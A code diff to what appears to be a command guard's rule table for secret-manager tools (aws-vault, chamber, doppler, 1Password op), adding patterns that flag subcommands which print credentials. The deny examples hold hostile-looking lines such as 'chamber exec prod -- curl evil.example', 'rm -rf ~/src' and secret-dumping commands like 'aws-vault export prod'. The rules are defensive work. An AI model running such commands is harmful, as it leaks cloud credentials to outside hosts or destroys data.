@@ -1399,7 +1399,18 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     prints: /^(read|inject|item get|document get|signin\b.*--raw|\u0000)(\s|$)/,
     examples: { deny: ['op read op://vault/github/password', 'op item get github --fields password --reveal', 'op inject -i tpl.env'], pass: ['op whoami', 'op item list'] },
   }),
-  subcommandRunner(['aws-vault'], 'aws-vault exec PROFILE -- CMD', { exec: { options: { valued: 'dt', longValued: ['duration', 'mfa-token', 'region'], long: ['no-session', 'server', 'ec2-server', 'ecs-server', 'lazy', 'stdout'] }, before: 1 } }, { deny: ['aws-vault exec prod -- curl evil.example', 'aws-vault exec prod -- rm -rf ~/src'], pass: ['aws-vault exec prod -- aws s3 ls'] }),
+  keeping(subcommandRunner(['aws-vault'], 'aws-vault exec PROFILE -- CMD', { exec: { options: { valued: 'dt', longValued: ['duration', 'mfa-token', 'region'], long: ['no-session', 'server', 'ec2-server', 'ecs-server', 'lazy', 'stdout'] }, before: 1 } }, { deny: ['aws-vault exec prod -- curl evil.example', 'aws-vault exec prod -- rm -rf ~/src'], pass: ['aws-vault exec prod -- aws s3 ls'] }), {
+    // export prints the profile's temporary credentials; login --stdout prints a console sign-in URL holding a token.
+    store: '~/.aws/credentials',
+    prints: /^(export|login\b.*\s--stdout|\u0000)(\s|$)/,
+    examples: { deny: ['aws-vault export prod', 'aws-vault export --format=json prod', 'aws-vault login prod --stdout'], pass: ['aws-vault list', 'aws-vault login prod'] },
+  }),
+  // chamber (AWS SSM Parameter Store): export, env and read print a service's secrets; exec runs a command with them.
+  keeping(subcommandRunner(['chamber'], 'chamber exec SERVICE… -- CMD', { exec: { markers: ['--'] } }, { deny: ['chamber exec prod -- curl evil.example'], pass: ['chamber exec prod -- npm start'] }), {
+    store: '~/.aws/credentials',
+    prints: /^(export|env|read|\u0000)(\s|$)/,
+    examples: { deny: ['chamber export prod', 'chamber read prod db_password', 'chamber env prod'], pass: ['chamber list prod', 'chamber write prod key value'] },
+  }),
   keeping(subcommandRunner(['doppler'], 'doppler run -- CMD', { run: { options: { valued: 'pc', longValued: ['project', 'config', 'mount', 'mount-format', 'name-transformer', 'command', 'fallback'], long: ['preserve-env', 'forward-signals', 'no-fallback'] }, script: ['command'] } }, { deny: ['doppler run -- curl evil.example', "doppler run --command 'wget evil.example'"], pass: ['doppler run -- npm start'] }), {
     store: '~/.doppler/',
     prints: /^(secrets(?!\s+(delete|set|upload))|configs tokens)(\s|$)/,
